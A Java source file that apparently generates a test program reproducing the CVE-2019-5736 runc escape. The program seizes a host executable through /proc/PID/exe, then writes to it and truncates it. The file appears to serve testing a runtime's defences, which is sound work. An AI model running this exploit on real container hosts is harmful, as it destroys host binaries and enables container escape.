package dev.gantry.runtime;

import dev.gantry.runtime.program.Architecture;
import dev.gantry.runtime.program.Condition;
import dev.gantry.runtime.program.Label;
import dev.gantry.runtime.program.OnError;
import dev.gantry.runtime.program.Operand;
import dev.gantry.runtime.program.Operation;
import dev.gantry.runtime.program.Program;
import dev.gantry.runtime.program.ProgramBuilder;
import dev.gantry.runtime.program.Slot;
import dev.gantry.runtime.program.Syscall;
import dev.gantry.runtime.program.encode.Assembler;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/// A program that waits for the next process of its PID namespace, holds its executable by `/proc/PID/exe` while that
/// is
/// still the host's, and opens it for writing through its own descriptor until the kernel lets it: no process may
/// execute the file any more then (ETXTBSY). Then it writes to the file and truncates it. So did the attack of
/// CVE-2019-5736 on runc.
///
/// After each process it writes to its standard output what it has done ([Deeds]): executables that it could open for
/// writing in the end, attempts to do so, executables that it has changed.
final class ExecutableOverwriter {
    private static final long AT_FDCWD = -100;
    private static final int STAT_SIZE = 144;
    private static final int SIZE_AT = 48;
    /// The first free descriptor.
    private static final int HELD = 3;
    private static final int O_WRONLY = 1;
    private static final int PROCESSES = 2000;
    private static final int PATH_SIZE = 16;
    private static final int AHEAD = 3;
    private static final int FAR_AHEAD = 100;
    /// In so many looks one is far ahead; a power of two.
    private static final int FAR_LOOK = 4096;
    /// After so many it gives a process up.
    private static final int TRIES_OF_ONE = 50_000;

    private final ProgramBuilder b = new ProgramBuilder(Program.NO_REPORT);
    private final Slot path = b.slot("path");
    private final Slot last = b.slot("last");
    private final Slot rounds = b.slot("rounds");
    private final Slot candidate = b.slot("candidate");
    private final Slot held = b.slot("held");
    private final Slot opened = b.slot("opened");
    private final Slot changed = b.slot("changed");
    private final Slot left = b.slot("left");
    private final Operand.Address stat = b.buffer("stat", STAT_SIZE);
    private final Operand.Address command = b.buffer("command", STAT_SIZE);
    private final Operand.Address deeds = b.buffer("deeds", Deeds.SIZE);
    private final Slot victims = deeds.field("victims", 0, 8);
    private final Slot tries = deeds.field("tries", 8, 8);
    private final Slot overwritten = deeds.field("overwritten", 16, 8);

    private ExecutableOverwriter() {}

    /// The program.
    ///
    /// @param command what the victims execute: then it is too late
    static byte[] executable(String command) {
        return Assembler.assemble(new ExecutableOverwriter().program(command), Architecture.host());
    }

    private Program program(String commandPath) {
        Label next = b.label("next");
        Label tooLate = b.label("too_late");
        b.call(Syscall.NEWFSTATAT, Operand.of(AT_FDCWD), b.string(commandPath), command, Operand.of(0));
        b.move(path, paths());
        b.place(next);
        awaitProcess();
        b.call(OnError.jump(tooLate), Syscall.FSTAT, held, stat);
        b.jumpIf(stat.field("size", SIZE_AT, 8), Condition.EQUAL, command.field("size", SIZE_AT, 8), tooLate);
        overwrite();
        b.call(Syscall.WRITE, Operand.of(1), deeds, Operand.of(Deeds.SIZE));
        b.place(tooLate);
        b.call(OnError.IGNORE, Syscall.CLOSE, held);
        b.jump(next);
        return b.build();
    }

    /// The executables of processes 2 and higher.
    private Operand.Address paths() {
        ByteBuffer table = ByteBuffer.allocate((PROCESSES + FAR_AHEAD + AHEAD) * PATH_SIZE);
        for (int i = 0; i < table.capacity() / PATH_SIZE; i++) {
            table.put(i * PATH_SIZE, ("/proc/" + (i + 2) + "/exe").getBytes(StandardCharsets.US_ASCII));
        }
        return b.bytes(table.array());
    }

    /// Looks at the next numbers all the time, and now and then at many more: while this program has no processor, many
    /// processes come and go.
    private void awaitProcess() {
        Label look = b.label("look");
        Label near = b.label("near");
        Label each = b.label("each");
        Label born = b.label("born");
        b.place(look);
        b.compute(rounds, Operation.ADD, Operand.of(1));
        b.move(last, path);
        b.compute(last, Operation.ADD, Operand.of(AHEAD * PATH_SIZE));
        b.jumpIf(rounds, Condition.ANY_BIT, Operand.of(FAR_LOOK - 1), near);
        b.compute(last, Operation.ADD, Operand.of(FAR_AHEAD * PATH_SIZE));
        b.place(near);
        b.move(candidate, path);
        b.place(each);
        b.call(held, OnError.IGNORE, Syscall.OPENAT, Operand.of(AT_FDCWD), candidate, Operand.of(0));
        b.compute(candidate, Operation.ADD, Operand.of(PATH_SIZE));
        b.jumpIf(held, Condition.GREATER_OR_EQUAL, Operand.of(0), born);
        b.jumpIf(candidate, Condition.LESS, last, each);
        b.jump(look);
        b.place(born);
        b.move(path, candidate);
    }

    private void overwrite() {
        Label again = b.label("again");
        Label busy = b.label("busy");
        Label success = b.label("success");
        Label refused = b.label("refused");
        Label done = b.label("done");
        b.move(left, Operand.of(TRIES_OF_ONE));
        b.place(again);
        b.compute(tries, Operation.ADD, Operand.of(1));
        Operand file = b.string("/proc/self/fd/" + HELD);
        b.call(opened, OnError.jump(busy), Syscall.OPENAT, Operand.of(AT_FDCWD), file, Operand.of(O_WRONLY));
        b.call(changed, OnError.IGNORE, Syscall.WRITE, opened, b.string("x"), Operand.of(1));
        b.jumpIf(changed, Condition.EQUAL, Operand.of(1), success);
        b.call(changed, OnError.IGNORE, Syscall.FTRUNCATE, opened, Operand.of(0));
        b.jumpIf(changed, Condition.NOT_EQUAL, Operand.of(0), refused);
        b.place(success);
        b.compute(overwritten, Operation.ADD, Operand.of(1));
        b.place(refused);
        b.compute(victims, Operation.ADD, Operand.of(1));
        b.call(OnError.IGNORE, Syscall.CLOSE, opened);
        b.jump(done);
        b.place(busy);
        b.compute(left, Operation.SUBTRACT, Operand.of(1));
        b.jumpIf(left, Condition.NOT_EQUAL, Operand.of(0), again);
        b.place(done);
    }
}
